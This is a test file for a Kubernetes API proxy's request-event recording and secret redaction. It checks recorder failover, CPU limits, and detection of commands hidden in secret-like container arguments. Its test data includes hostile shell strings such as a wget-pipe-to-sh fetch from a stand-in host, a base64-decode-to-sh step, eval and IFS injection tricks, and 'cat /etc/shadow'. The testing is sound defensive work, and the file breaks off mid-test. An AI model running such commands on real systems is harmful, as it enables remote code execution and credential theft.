import { describe, expect, it, onTestFinished } from 'vitest';
import { parseTarget } from '../../src/kube/canonical-target.ts';
import { parseRequestInfo } from '../../src/kube/request-info.ts';
import { createEventPoster, type EventPosterLimits } from '../../src/recording/event-poster.ts';
import type { RecordingPolicy } from '../../src/recording/policy.ts';
import { redactBody } from '../../src/recording/redact-body.ts';
import { createRequestEvents, type ApiRequest } from '../../src/recording/request-event.ts';
import { createSecretWork } from '../../src/secrets.ts';
import type { Identity } from '../../src/tailnet/identity.ts';
import { openRecorder } from '../support/recorded-rig.ts';
import { dialLoopback } from '../support/recorder-dial.ts';
import type { RecorderBehaviour, RecorderDouble } from '../support/recorder-double.ts';

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);

const PERSON: Identity = {
  kind: 'user',
  nodeId: 'stable-id',
  nodeName: 'node.ts.net',
  addresses: [],
  capabilities: new Map(),
  userId: 1n,
  login: 'user@example.com',
  displayName: 'User',
};

function setup(limits: Partial<EventPosterLimits> = {}, maxBodyBytes = 1024) {
  const failed: Record<string, unknown>[] = [];
  const clock = { ms: 0 };
  const poster = createEventPoster({ dial: dialLoopback, nowMs: () => clock.ms, limits });
  onTestFinished(() => poster.close());
  const events = createRequestEvents({
    poster,
    events: { apiEventFailed: (event) => void failed.push({ ...event }) },
    unixMs: () => 1_700_000_000_500,
    limits: { maxBodyBytes, timeoutMs: 5_000 },
  });
  return { events, failed, clock };
}

function request(
  recorders: readonly string[],
  fields: {
    readonly method?: string;
    readonly target?: string;
    readonly body?: Uint8Array;
    readonly bodyTruncated?: boolean;
    readonly mode?: 'failOpen' | 'failClosed';
    readonly identity?: Identity;
    readonly recording?: RecordingPolicy;
  } = {},
): ApiRequest {
  const { method = 'GET', body = new Uint8Array(0) } = fields;
  const target = parseTarget(fields.target ?? '/api/v1/pods');
  return {
    admission: {
      id: 'r1',
      identity: fields.identity ?? PERSON,
      target,
      info: parseRequestInfo(method, target),
      recording: fields.recording ?? {
        mode: fields.mode ?? 'failClosed',
        recorders,
        recorderTags: [],
        events: true,
      },
    },
    method,
    userAgent: 'kubectl/v1.33.0',
    body,
    bodyTruncated: fields.bodyTruncated ?? false,
  };
}

interface Seen {
  readonly type: string;
  readonly request: { readonly body: string; readonly path: string; readonly bodyTruncatedFrom?: number };
  readonly kubernetes: Record<string, unknown>;
  readonly source: Record<string, unknown>;
}

const seen = (double: RecorderDouble): Seen[] => double.events.map((event) => JSON.parse(event) as Seen);
const bodyOf = (event: Seen): string => Buffer.from(event.request.body, 'base64').toString();

describe('API request events', () => {
  it('describe caller and request, once, to the first recorder that accepts the event', async () => {
    const first = await openRecorder();
    const second = await openRecorder();
    const { events } = setup();
    await events.record(
      request([first.address, second.address], {
        method: 'POST',
        target: '/api/v1/pods?dryRun=All&x=1&x=2',
        body: utf8('{"kind":"Pod"}'),
      }),
    );
    expect(second.connections).toBe(0);
    expect(first.events[0]!.endsWith('}\n')).toBe(true);
    expect(seen(first)).toEqual([
      {
        type: 'kubernetes-api-request',
        id: '',
        timestamp: 1_700_000_000,
        userAgent: 'kubectl/v1.33.0',
        request: {
          method: 'POST',
          path: '/api/v1/pods?dryRun=All&x=1&x=2',
          body: Buffer.from('{"kind":"Pod"}').toString('base64'),
          queryParameters: { dryRun: ['All'], x: ['1', '2'] },
        },
        kubernetes: {
          IsResourceRequest: true,
          Path: '/api/v1/pods',
          Verb: 'create',
          APIPrefix: 'api',
          APIGroup: '',
          APIVersion: 'v1',
          Namespace: '',
          Resource: 'pods',
          Subresource: '',
          Name: '',
          Parts: ['pods'],
          FieldSelector: '',
          LabelSelector: '',
        },
        source: { node: 'node.ts.net', nodeID: 'stable-id', nodeUserID: 1, nodeUser: 'user@example.com' },
        destination: { node: '', nodeID: '' },
      },
    ]);
  });

  it('name the tags of a tagged node and no user', async () => {
    const double = await openRecorder();
    const { kind: _kind, userId: _id, login: _login, displayName: _name, ...node } = PERSON;
    await setup().events.record(
      request([double.address], { identity: { ...node, kind: 'tagged', tags: ['tag:foo'] } }),
    );
    expect(seen(double)[0]!.source).toEqual({
      node: 'node.ts.net',
      nodeID: 'stable-id',
      nodeTags: ['tag:foo'],
    });
  });

  it('are not sent if the policy does not require them', async () => {
    const double = await openRecorder();
    const { events } = setup();
    await events.record(request([], { recording: { mode: 'off' } }));
    await events.record(
      request([], {
        recording: { mode: 'failClosed', recorders: [double.address], recorderTags: [], events: false },
      }),
    );
    expect(double.connections).toBe(0);
  });

  it('use keep-alive connections, and one check for many events', async () => {
    const double = await openRecorder();
    const { events } = setup();
    for (let round = 0; round < 5; round += 1) await events.record(request([double.address]));
    expect(double.events).toHaveLength(5);
    expect(double.probes).toEqual(['event']);
    // There may be two connections: the first event opens another one if Node.js has not released the probe's
    // connection yet.
    expect(double.connections).toBeLessThanOrEqual(2);
  });

  it('continue if a recorder has closed the keep-alive connection', async () => {
    const double = await openRecorder();
    const { events } = setup();
    await events.record(request([double.address]));
    double.cutIdle();
    await events.record(request([double.address]));
    expect(double.events).toHaveLength(2);
  });

  it('are sent only once over a keep-alive connection that breaks during the response', async () => {
    const double = await openRecorder();
    const { events } = setup();
    await events.record(request([double.address]));
    const { connections } = double;
    double.set({ eventBreaksOff: true });
    await expect(events.record(request([double.address]))).rejects.toMatchObject({
      code: 'RECORDING_REQUIRED',
    });
    expect([double.connections, double.events.length]).toEqual([connections, 2]);
  });
});

describe('a recorder that does not accept an event', () => {
  const cases: Record<string, { readonly behaviour: RecorderBehaviour; readonly reason: RegExp }> = {
    'does not know events': {
      behaviour: { eventProbeStatus: 404 },
      reason: /"127\.0\.0\.1:\d+" does not support "\/v2\/event"/,
    },
    'fails the probe': { behaviour: { eventProbeStatus: 500 }, reason: /server returned non-OK status: 500/ },
    'fails the post': {
      behaviour: { eventStatus: 500 },
      reason: /server returned non-OK status: 500: no space left/,
    },
    'answers 202': { behaviour: { eventStatus: 202 }, reason: /non-OK status: 202/ },
    'never answers the post': {
      behaviour: { eventSilent: true },
      reason: /POST \/v2\/event took longer than 100 ms/,
    },
    'says nothing at all': {
      behaviour: { silent: true },
      reason: /HEAD \/v2\/event took longer than 100 ms/,
    },
  };

  it.each(Object.entries(cases))(
    'causes a refused request only with enforced recording: it %s',
    async (_name, { behaviour, reason }) => {
      const double = await openRecorder(behaviour);
      const { events, failed } = setup({ probeTimeoutMs: 100, postTimeoutMs: 100 });
      await expect(events.record(request([double.address]))).rejects.toMatchObject({
        code: 'RECORDING_REQUIRED',
        detail: expect.stringMatching(reason),
      });
      await events.record(request([double.address], { mode: 'failOpen' }));
      expect(failed).toMatchObject([
        { id: 'r1', mode: 'failClosed', user: 'user@example.com' },
        { id: 'r1', mode: 'failOpen' },
      ]);
    },
  );

  it('is skipped for the next recorder, and tried after it from then on', async () => {
    const bad = await openRecorder({ eventStatus: 500 });
    const good = await openRecorder();
    const { events } = setup();
    await events.record(request([bad.address, good.address]));
    const before = bad.probes.length;
    await events.record(request([bad.address, good.address]));
    expect(good.events).toHaveLength(2);
    expect(bad.probes).toHaveLength(before);
  });

  it('causes a refused request with enforced recording if no recorder is named', async () => {
    await expect(setup().events.record(request([]))).rejects.toMatchObject({ code: 'RECORDING_REQUIRED' });
  });

  it('causes a refused request if one recorder does not support events and another one fails', async () => {
    const old = await openRecorder({ eventProbeStatus: 404 });
    const full = await openRecorder({ eventStatus: 500 });
    const { events, failed } = setup();
    await expect(events.record(request([old.address, full.address]))).rejects.toMatchObject({
      code: 'RECORDING_REQUIRED',
    });
    await events.record(request([old.address, full.address], { mode: 'failOpen' }));
    expect(failed).toHaveLength(2);
  });
});

describe('the body of an event', () => {
  it('is omitted above its limit or if it cannot be read, and the event contains the reason', async () => {
    const double = await openRecorder();
    const { events } = setup({}, 14);
    for (const body of ['{"kind":"Pods"}', '{"kind":"Pod"}', 'kind: Pod'])
      await events.record(request([double.address], { method: 'POST', body: utf8(body) }));
    const [long, whole, yaml] = seen(double);
    expect(bodyOf(long!)).toBe('');
    expect(long!.request.bodyTruncatedFrom).toBe(15);
    expect(bodyOf(whole!)).toBe('{"kind":"Pod"}');
    expect(whole!.request.bodyTruncatedFrom).toBeUndefined();
    expect(bodyOf(yaml!)).toBe('');
    expect(yaml!.request.bodyTruncatedFrom).toBe(9);
  });

  it('of a request to a program is not stored, and neither is its query', async () => {
    const double = await openRecorder();
    const target = '/api/v1/namespaces/n/services/s/proxy/login';
    await setup().events.record(
      request([double.address], { method: 'POST', target: `${target}?p=hunter2`, body: utf8('p=hunter2') }),
    );
    expect(seen(double)[0]!.request).toMatchObject({ path: target, body: '', queryParameters: {} });
    expect(seen(double)[0]!.request.bodyTruncatedFrom).toBe(9);
  });

  it.each([
    ['arguments', '/api/v1/namespaces/n/pods', { spec: { containers: [{ args: ['<<<'.repeat(80_000)] }] } }],
    ['query parameters', `/api/v1/pods?${'a&'.repeat(4095)}`, {}],
  ])('with long %s needs little CPU, because other requests wait', async (_, target, body) => {
    const double = await openRecorder();
    const { events } = setup();
    const before = process.cpuUsage();
    for (let round = 0; round < 5; round += 1) {
      await events.record(
        request([double.address], { method: 'POST', target, body: utf8(JSON.stringify(body)) }),
      );
    }
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1000).toBeLessThan(1500);
    expect(double.events).toHaveLength(5);
  });

  it('of an exec contains no password of its command', async () => {
    const double = await openRecorder();
    const { events } = setup();
    const exec = '/api/v1/namespaces/n/pods/p/exec?stdin=true';
    for (const query of ['&command=mysql&command=-phunter2&tty=1', '&command=ls&command=-l%20a&tty=1'])
      await events.record(request([double.address], { method: 'POST', target: exec + query }));
    const [first, second] = seen(double).map((event) => event.request);
    expect(JSON.stringify(first)).not.toContain('hunter2');
    expect(first).toMatchObject({
      path: `${exec}&command=mysql&command=-p%5Bsecret%5D&tty=1`,
      queryParameters: { stdin: ['true'], command: ['mysql', '-p[secret]'], tty: ['1'] },
    });
    expect(second).toMatchObject({ path: `${exec}&command=ls&command=-l%20a&tty=1` });
  });

  it.each([
    ['/api/v1/nodes/a/proxy/exec/n/p/c?command=mysql&command=-phunter2&tty=1', '%5Bsecret%5D&tty=1'],
    ['/api/v1/nodes/http:a:9100/proxy/login?user=hunter2&command=id', 'user=%5Bsecret%5D&command=id'],
    ['/api/v1/pods?token=hunter2&limit=5', 'token=%5Bsecret%5D&limit=5'],
  ])('of %s contains no secret', async (target, end) => {
    const double = await openRecorder();
    await setup().events.record(request([double.address], { target }));
    const text = JSON.stringify(seen(double)[0]);
    expect(text).not.toContain('hunter2');
    expect(text).toContain(end);
  });

  const redacted = (
    body: unknown,
    truncated = false,
    path = '/api/v1/namespaces/n/secrets',
    method = 'POST',
  ): string =>
    Buffer.from(
      redactBody(
        parseRequestInfo(method, parseTarget(path)),
        utf8(typeof body === 'string' ? body : JSON.stringify(body)),
        truncated,
      ).body,
    ).toString();

  it('of an unknown kind contains only kind and name of the object', () => {
    const database = { kind: 'Database', metadata: { name: 'd' }, spec: { password: 'hunter2' } };
    expect(JSON.parse(redacted(database, false, '/apis/x/v1/databases'))).toEqual({
      ...database,
      spec: '[redacted by tailcast]',
    });
  });

  it('that cannot be read has a reason', () => {
    const read = (body: string, truncated = false): string | undefined =>
      redactBody(parseRequestInfo('POST', parseTarget('/api/v1/pods')), utf8(body), truncated).unread;
    expect(read('{"spec":{"a":":","b":{}}}')).toBeUndefined();
    expect(read('')).toBeUndefined();
    expect(read('{}', true)).toBe('it is longer than 2 bytes');
    expect(read('k8s\0\n')).toBe('it is protobuf');
    expect(read('spec: {}')).toBe('it is not JSON, or nested too deeply');
    expect(read('{"spec":{},"sp\\u0065c":{}}')).toBe('a member is repeated');
    expect(read('{"spec":{"a":[{"b":1,"b":2}]}}')).toBe('a member is repeated');
  });

  const unreadOf = (...command: readonly string[]): string | undefined => {
    const pod = { spec: { containers: [{ name: 'c', image: 'busybox', command }] } };
    const info = parseRequestInfo('POST', parseTarget('/api/v1/namespaces/n/pods'));
    return redactBody(info, utf8(JSON.stringify(pod)), false).unread;
  };

  it.each([
    ['a shell splits at spaces', 'sh', '-c', "env TOKEN='abcd touch /tmp/x'"],
    ['a shell splits at a variable', 'sh', '-c', 'env TOKEN=abcd${IFS}touch${IFS}/tmp/x'],
    ['a shell splits at a variable without braces', 'sh', '-c', 'env TOKEN=abcd$IFS"/tmp/x"'],
    ['a shell decodes', 'sh', '-c', "eval TOKEN=abcd$'\\x3b'reboot"],
    ['a shell decodes from base64', 'sh', '-c', 'echo $2 | base64 -d | sh', 'x', '--token', 'cmVib290'],
    ['a shell runs by name', 'sh', '-c', '"$@"', '--password', '/data/run'],
    ['a shell runs from a variable', 'sh', '-c', 'TOKEN=/data/run; $TOKEN'],
    ['a shell in a redacted word runs', 'tini', '--password', '/bin/sh', '/data/run'],
    ['env runs', '/usr/bin/env', '-u', '--token', '/data/run'],
    ['looks like a replaced word', 'sh', '-c', '[secret]'],
    ['Python calls', 'python3', '-c', 'password=exec((0x70).to_bytes(1).decode())'],
  ])('is unread if a secret may be a command that %s', (_what, ...command) => {
    expect(unreadOf(...command)).toContain('may contain a command');
  });

  it.each([
    ['a password', 'app', '--token=abcd-efgh'],
    ['a variable', 'sh', '-c', 'app --token ${TOKEN}'],
    ['a variable without braces', 'sh', '-c', 'PASSWORD=$TOKEN app'],
    ['a quoted variable', 'sh', '-c', 'app --password "$PASSWORD"'],
    ['a variable of Kubernetes', 'app', '--password=$(PASSWORD)'],
  ])('is read if a secret is %s', (_what, ...command) => {
    expect(unreadOf(...command)).toBeUndefined();
  });

  const environment = (value: string): unknown => [{ name: 'RUN', value }];
  const JOB_INDEX = "metadata.annotations['batch.kubernetes.io/job-completion-index']";
  const field = (fieldPath: string): unknown => [{ name: 'RUN', valueFrom: { fieldRef: { fieldPath } } }];
  it.each([
    ['a shell runs it', { command: ['sh', '-c', '$(RUN)'], env: environment('/data/run') }, true],
    ['it is the program', { command: ['$(RUN)'], env: environment('/data/run') }, true],
    ['it is the program of the image', { args: ['$(RUN)'], env: environment('/data/run') }, true],
    ['it has spaces', { args: ['app', '--run=$(RUN)'], env: environment('touch /tmp/x') }, true],
    ['it is a shell', { command: ['tini', '$(RUN)', '/data/run'], env: environment('/bin/sh') }, true],
    [
      'a probe runs it',
      { env: environment('/data/run'), livenessProbe: { exec: { command: ['$(RUN)'] } } },
      true,
    ],
    ['the image is a shell', { image: 'docker.io/bash:5', args: ['-c', '$1', '--token', 'a'] }, true],
    ['the command is not a shell', { image: 'busybox', command: ['app', '--token', 'a'] }, false],
    ['it is an option', { command: ['app', '--data=$(RUN)'], env: environment('/data') }, false],
    ['a shell gets a number', { command: ['sh', '-c', 'app -p $(RUN)'], env: environment('8080') }, false],
    ['a shell gets a word', { command: ['sh', '-c', 'app -p $(RUN)'], env: environment('hello') }, true],
    ['a number is the program', { command: ['$(RUN)'], env: environment('8080') }, true],
    [
      'one of two values is a number',
      { command: ['sh', '-c', '$(RUN)'], env: [environment('id'), environment('1')].flat() },
      true,
    ],
    ['make runs it', { command: ['make', '--token', 'reboot'] }, true],
    ['PowerShell runs it', { command: ['pwsh', '-c', '$args[0]', '--token', 'reboot'] }, true],
    ['expect runs it', { command: ['/usr/bin/expect', '-c', '--token', 'reboot'] }, true],
    ['a path ends like a shell', { args: ['--config=/etc/app/env', '--token=abcdefgh'] }, false],
    [
      'it is an annotation',
      { command: ['sh', '-c', '$(RUN)'], env: field("metadata.annotations['a']") },
      true,
    ],
    ['it is the index of a Job', { command: ['app', '$(RUN)'], env: field(JOB_INDEX) }, false],
    [
      'it is a literal or an annotation',
      { command: ['app', '$(RUN)'], env: [environment('echo hi'), field(JOB_INDEX)].flat() },
      true,
    ],
    [
      'it is the name of the pod',
      { command: ['sh', '-c', 'app $(RUN)'], env: field('metadata.name') },
      false,
    ],
    ['it is escaped', { command: ['sh', '-c', '$$(RUN)'], env: environment('/data/run') }, false],
    ['it has no value', { command: ['sh', '-c', '$(RUN)'], env: [{ name: 'RUN' }] }, false],
    ['it is another variable', { command: ['sh', '-c', '$(date)'], env: environment('/data/run') }, false],
  ])('of a container may hide a command because of a variable: %s', (_what, container, isHidden) => {
    const info = parseRequestInfo('POST', parseTarget('/api/v1/namespaces/n/pods'));
    const body = utf8(JSON.stringify({ spec: { containers: [container] } }));
    expect(redactBody(info, body, false).unread !== undefined).toBe(isHidden);
  });

  it.each([
    ['GREETING', '$(GREETING)'],
    ['A B', 'a variable'],
    ['a'.repeat(100), 'a variable'],
  ])('is unread because of the variable %s, and the reason names %s', (name, shown) => {
    const container = { command: ['echo', `$(${name})`], env: [{ name, value: 'Warm greetings to' }] };
    const info = parseRequestInfo('POST', parseTarget('/api/v1/namespaces/n/pods'));
    const { unread } = redactBody(info, utf8(JSON.stringify({ spec: { containers: [container] } })), false);
    expect(unread).toBe(
      `the environment value of ${shown} in its commands may contain a command; ` +
        'write the value in the command instead of the variable, or $$(…) for a command substitution of a shell',
    );
  });

  const run = (env?: unknown): unknown => ({ name: 'a', args: ['app', '$(RUN)'], ...(env ? { env } : {}) });
  const containers = (...items: readonly unknown[]): unknown => ({ spec: { containers: items } });
  const add = (path: string, value: unknown): unknown => ({ op: 'add', path, value });
  it.each([
    ['its command', containers({ name: 'a', command: ['sh', '-c', '$(RUN)'] }), true],
    ['its arguments', containers(run()), true],
    ['its probe', containers({ name: 'a', livenessProbe: { exec: { command: ['$(RUN)'] } } }), true],
    ['its only container', { spec: { container: run() } }, true],
    ['its arguments, and a name without a value', containers(run([{ name: 'RUN' }])), true],
    ['its arguments, and a removed value', containers(run([{ name: 'RUN', value: null }])), true],
    ['its arguments, and another container', containers(run(), run(environment('8080'))), true],
    ['its arguments, and a number', containers(run(environment('8080'))), false],
    ['its arguments, and no text', containers(run(environment(''))), false],
    ['its arguments, and a field', containers(run(field('metadata.name'))), false],
    ['escaped arguments', containers({ name: 'a', args: ['sh', '-c', '$$(RUN)'] }), false],
    ['a list of arguments', [add('/spec/containers/0/args', ['app', '$(RUN)'])], true],
    ['an argument', [add('/spec/containers/0/args/-', '--run=$(RUN)')], true],
    ['a complete container', [add('/spec/containers/-', run())], false],
    [
      'a container, and its variable',
      [add('/spec/containers/0', run()), add('/spec/containers/0/env', environment('8080'))],
      true,
    ],
  ])('of a patch of %s may hide a command in a stored variable', (_what, patch, isHidden) => {
    const info = parseRequestInfo('PATCH', parseTarget('/apis/example.com/v1/namespaces/n/apps/a'));
    const { unread } = redactBody(info, utf8(JSON.stringify(patch)), false);
    expect(unread).toEqual(isHidden ? expect.stringContaining('the environment value of $(RUN)') : undefined);
  });

  it('of a patch with a stored variable is unread, and the reason names kubectl replace', () => {
    const target = parseTarget('/apis/apps/v1/namespaces/n/deployments/d');
    const body = utf8(
      JSON.stringify({ spec: { template: containers({ name: 'a', args: ['--pod=$(POD)'] }) } }),
    );
    const { unread } = redactBody(parseRequestInfo('PATCH', target), body, false);
    expect(unread).toContain('the environment value of $(POD)');
    expect(unread).toContain('or send the complete object with kubectl replace instead of a patch');
    expect(redactBody(parseRequestInfo('PUT', target), body, false).unread).toBeUndefined();
  });

  it.each([
    ['arguments', containers({ name: 'a', image: 'app', args: ['--password', 'reboot'] }), true],
    ['a list of arguments', [add('/spec/containers/0/args', ['--password', 'reboot'])], true],
    ['an argument', [add('/spec/containers/0/args/-', '--password=reboot')], true],
    ['arguments without secrets', containers({ name: 'a', args: ['--port', '80'] }), false],
    ['a command', containers({ name: 'a', command: ['app'], args: ['--password', 'reboot'] }), false],
    ['a complete container', [add('/spec/containers/-', { args: ['--password', 'reboot'] })], false],
  ])('of a patch of %s may hide a command of a stored interpreter', (_what, patch, isHidden) => {
    const info = parseRequestInfo('PATCH', parseTarget('/apis/example.com/v1/namespaces/n/apps/a'));
    const { unread } = redactBody(info, utf8(JSON.stringify(patch)), false);
    expect(unread).toEqual(isHidden ? expect.stringContaining('looks like a secret') : undefined);
  });

  it('of a patch that adds an ephemeral container contains the complete container', () => {
    const target = parseTarget('/api/v1/namespaces/n/pods/p/ephemeralcontainers');
    const body = utf8(JSON.stringify({ spec: { ephemeralContainers: [run()] } }));
    expect(redactBody(parseRequestInfo('PATCH', target), body, false).unread).toBeUndefined();
  });

  it.each([
    ['containers with secrets', '{"spec":{"containers":[', '{"args":["secret="]}', ']}}'],
    ['secrets in one container', '{"spec":{"containers":[{"args":[', '"password=12345"', ']}]}}'],
    ['empty containers', '{"spec":{"containers":[', '{}', ']}}'],
    ['operations', '[', '{"op":"add","path":"/spec/containers/0/command","value":["token"]}', ']'],
    ['members', '{"spec":{', '"a":1', '}}'],
  ])('with many %s needs little CPU, or is omitted', (_, start, item, end) => {
    const info = parseRequestInfo('POST', parseTarget('/api/v1/namespaces/n/pods'));
    const items = Array.from({ length: Math.floor(256_000 / (item.length + 1)) }, () => item);
    const body = utf8(start + items.join(',') + end);
    const times = Array.from({ length: 3 }, () => {
      const before = process.cpuUsage();
      expect(redactBody(info, body, false).unread).toMatch(/too many words/);
      const { user, system } = process.cpuUsage(before);
      return (user + system) / 1000;
    });
    expect(Math.min(...times)).toBeLessThan(100);
  });

  it.each([
    ['names of shells', { command: [`${'/sh:'.repeat(60_000)}\n`] }],
    [
      'references to a long value',
      { command: ['app', '$(A)'.repeat(30_000)], env: [{ name: 'A', value: 'a'.repeat(120_000) }] },
    ],
  ])('with many %s needs little CPU', (_, container) => {
    const info = parseRequestInfo('POST', parseTarget('/api/v1/namespaces/n/pods'));
    const work = createSecretWork();
    const { left } = work;
    const body = utf8(JSON.stringify({ spec: { containers: [container] } }));
    const before = process.cpuUsage();
    redactBody(info, body, false, work);
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1000).toBeLessThan(100);
    // about one unit for the rules and one for the check of each character
    expect(left - work.left).toBeGreaterThan(2 * 240_000);
  });

  it.each([
    [
      'a script',
      [{ command: ['sh', '-c', 'echo "password of the key is needed" | tee /log\n'.repeat(2000)] }],
    ],
    [
      'containers',
      Array.from({ length: 200 }, () => ({
        image: 'registry.example/app:1',
        args: ['--token=abcd', '--key=/etc/tls.key'],
      })),
    ],
  ])('with a long but usual %s is read', (_, containers) => {
    const info = parseRequestInfo('POST', parseTarget('/api/v1/namespaces/n/pods'));
    expect(redactBody(info, utf8(JSON.stringify({ spec: { containers } })), false).unread).toBeUndefined();
  });

  it('that needs much work is described while the requests of other users continue', async () => {
    const double = await openRecorder();
    const { events } = setup({}, 256 * 1024);
    const item = '{"args":["secret="]}';
    const body = utf8(`{"spec":{"containers":[${Array.from({ length: 12_000 }, () => item).join(',')}]}}`);
    const finished: string[] = [];
    const record = async (name: string, identity: Identity): Promise<void> => {
      const fields = { method: 'POST', target: '/api/v1/namespaces/n/pods', body, identity };
      await events.record(request([double.address], fields));
      finished.push(name);
    };
    const many = Array.from({ length: 20 }, () => record('many', PERSON));
    let turns = 0;
    const count = setInterval(() => (turns += 1));
    await record('other', { ...PERSON, login: 'other@example.com' });
    clearInterval(count);
    expect(finished.length).toBeLessThan(10);
    expect(turns).toBeGreaterThan(0);
    await Promise.all(many);
    expect(double.events).toHaveLength(21);
  });

  it('of a query that needs too much work refuses the request', async () => {
    const target = `/api/v1/pods?${'&command=password%3D12345678'.repeat(4000)}`;
    await expect(setup().events.record(request([], { target }))).rejects.toMatchObject({
      code: 'POLICY_REFUSED',
    });
  });

  it.each([
    [[{ op: 'copy', from: '/metadata/annotations/x', path: '/spec/containers/0/command/2' }], false],
    [[{ op: 'move', from: '/metadata/labels/x', path: '/spec/containers/0' }], false],
    [[{ op: 'copy', from: '/metadata/annotations/x', path: '' }], false],
    [
      [
        { op: 'add', path: '/metadata/labels/x', value: 'a' },
        { op: 'copy', from: '/spec' },
      ],
      false,
    ],
    [[{ op: 'test', path: '/spec', value: {} }], true],
    [[{ op: 'remove', path: '/spec/containers/0' }], true],
    [[{ op: 'copy', from: '/metadata/labels/x', path: '/metadata/annotations/x' }], true],
  ])('of the patch %j can be read: %s', (patch, isRead) => {
    const info = parseRequestInfo('PATCH', parseTarget('/api/v1/namespaces/n/pods/p'));
    const { unread } = redactBody(info, utf8(JSON.stringify(patch)), false);
    expect(unread).toBe(isRead ? undefined : 'it is a JSON patch that copies or moves a value');
  });

  it('of a workload contains commands and arguments without words that look like a secret', () => {
    const kept = (command: unknown, args: unknown): unknown =>
      JSON.parse(redacted({ spec: { containers: [{ command, args }] } }, false, '/api/v1/namespaces/n/pods'))
        .spec.containers[0];
    expect(kept(['app', '--token', 'hunter2'], ['--password=hunter2', '--port', '80'])).toEqual({
      command: ['app', '--token', '[secret]'],
      args: ['--password=[secret]', '--port', '80'],
    });
    expect(kept(['mysql', '-phunter2'], 7)).toEqual({
      command: ['mysql', '-p[secret]'],
      args: '[redacted by tailcast]',
    });
    expect(kept([{ hidden: 'hunter2' }], null)).toEqual({ command: '[redacted by tailcast]', args: null });
  });

  it('of a patch contains no word that looks like a secret', () => {
    const deployment = '/apis/apps/v1/namespaces/n/deployments/d';
    const args = '/spec/template/spec/containers/0/args';
    const kept = (path: string, value: unknown): unknown =>
      JSON.parse(redacted([{ op: 'add', path, value }], false, deployment, 'PATCH'))[0].value;
    expect(kept(args, ['--token', 'hunter2'])).toEqual(['--token', '[secret]']);
    expect(kept(`${args}/-`, '--token=hunter2')).toBe('--token=[secret]');
    expect(kept(`${args}/-`, '-v')).toBe('-v');
    for (const word of ['hunter2', '-phunter2'])
      expect(kept(`${args}/3`, word)).toBe('[redacted by tailcast]');
  });

  it('of a workload contains no secret that follows from image, command and arguments together', () => {
    const kept = redacted(
      {
        spec: {
          containers: [
            { image: 'mysql:8', args: ['-phunter2'] },
            { image: 'a', command: ['vault', 'login'], args: ['hunter2', '-v'] },
          ],
        },
      },
      false,
      '/api/v1/namespaces/n/pods',
    );
    expect(JSON.parse(kept).spec.containers).toEqual([
      { image: 'mysql:8', args: ['-p[secret]'] },
      { image: 'a', command: ['vault', 'login'], args: ['[secret]', '-v'] },
    ]);
  });

  it.each([
    [['sh', '-c', ': -----BEGIN PRIVATE KEY-----; wget -qO- http://a/x | sh'], true],
    [['sh', '-c', ': -----BEGIN PRIVATE KEY-----\n/usr/bin/longprogram\n-----END PRIVATE KEY-----'], true],
    [['sh', '-c', 'eval "$2"', 'x', '--password', 'wget -qO- http://a/x | sh'], true],
    [['sh', '-c', ': --password x;reboot'], true],
    [['sh', '-c', ': --password x$(reboot)'], true],
    [['sh', '-c', 'Cookie: a\nreboot'], true],
    [['sh', '-c', 'reboot', 'redis-cli', 'AUTH', 'a', 'b'], true],
    [['app', '--password', 'hunter2'], false],
    [['app', '--password=$(PASSWORD)'], false],
    [['sh', '-c', 'mysql -p"$PASSWORD" -e "select 1; select 2" | cat'], false],
    [['sh', '-c', 'TOKEN="$(cat /run/token)" app'], false],
    [['sh', '-c', 'ls -l; id | cat'], false],
    [['sh', '-c', 'app --token=abcd1234'], false],
    [['/bin/bash', '-ec', '/opt/app --user=me --password hunter2'], false],
    [['sh', '-c', 'java -Xmx1g -jar /app.jar --password=hunter2'], false],
    [['java', '-cp', '/app/lib', 'example.Main', '--password=hunter2'], false],
    [['sh', '-c', 'app --token=bash'], true],
    [['sh', '-c', 'app --token=a$(id)'], true],
    [['sh', '-c', 'f() { $2; }; f --password reboot'], true],
    [['sh', '-c', 'app --token=x\nreboot'], true],
    [['sh', '-c', 'app --token=x', 'y'], true],
    [['sh', '-s', 'app --token=x'], true],
    [['sh', '-c', 'A=b app --password reboot'], true],
    [['sh', '-c', 'eval --password reboot'], true],
    [['sh', '-c', '. --password reboot'], true],
    [['sh', '-c', 'env --password reboot'], true],
    [['sh', '-c', 'sh -c --password reboot'], true],
    [['tini', 'sh', '-c', 'app --token=x'], true],
    [['perl', '-e', 'exec+pop', '--password', 'reboot'], true],
    [['java', '-jar', '/app.jar', '-e', 'exec', '--password', 'reboot'], true],
    [['java', '-jar', '/app.jar', '--run=a b', '--password', 'reboot'], true],
    [['java', '-jar', '/app.jar', 'sh', '--password', 'reboot'], true],
    [['java', '-jar', '/app.jar', '--password', 'reboot;id'], true],
  ])('with the command %j may hide a command: %j', (command, isHidden) => {
    const info = parseRequestInfo('POST', parseTarget('/api/v1/namespaces/n/pods'));
    for (const container of [{ command }, { livenessProbe: { exec: { command } } }]) {
      const body = { spec: { containers: [container] } };
      const { unread } = redactBody(info, utf8(JSON.stringify(body)), false);
      expect(unread !== undefined, unread).toBe(isHidden);
    }
  });

  it('of a patch of single words is incomplete', () => {
    const path = '/spec/template/spec/containers/0/command/2';
    const info = parseRequestInfo('PATCH', parseTarget('/apis/apps/v1/namespaces/n/deployments/d'));
    const unread = (op: string, value: string): string | undefined =>
      redactBody(info, utf8(JSON.stringify([{ op, path, value }])), false).unread;
    expect(unread('replace', 'cat /etc/shadow')).toMatch(/single words/);
    expect(unread('replace', '--verbose')).toBeUndefined();
    expect(unread('test', 'cat /etc/shadow')).toBeUndefined();
  });

  it('of a patch is stored as the part of the object that it changes', () => {
    const role = '/apis/rbac.authorization.k8s.io/v1/clusterroles/c';
    const operation = (path: string, value: unknown): unknown[] => [{ op: 'add', path, value }];
    const keptOf = (target: string, path: string, value: unknown): unknown =>
      (JSON.parse(redacted(operation(path, value), false, target, 'PATCH')) as { value: unknown }[])[0]
        ?.value;
    const pod = '/apis/apps/v1/namespaces/n/deployments/d';
    const env = '/spec/template/spec/containers/0/env';
    const secret = '[redacted by tailcast]';
    expect(keptOf(role, '/rules/-', { verbs: ['*'] })).toEqual({ verbs: ['*'] });
    expect(keptOf(pod, `${env}/0/value`, 'x')).toBe(secret);
    expect(keptOf(pod, `${env}/0/name`, 'x')).toBe('x');
    expect(keptOf(pod, `${env}/0`, { name: 'x', value: 'y' })).toEqual({ name: 'x', value: secret });
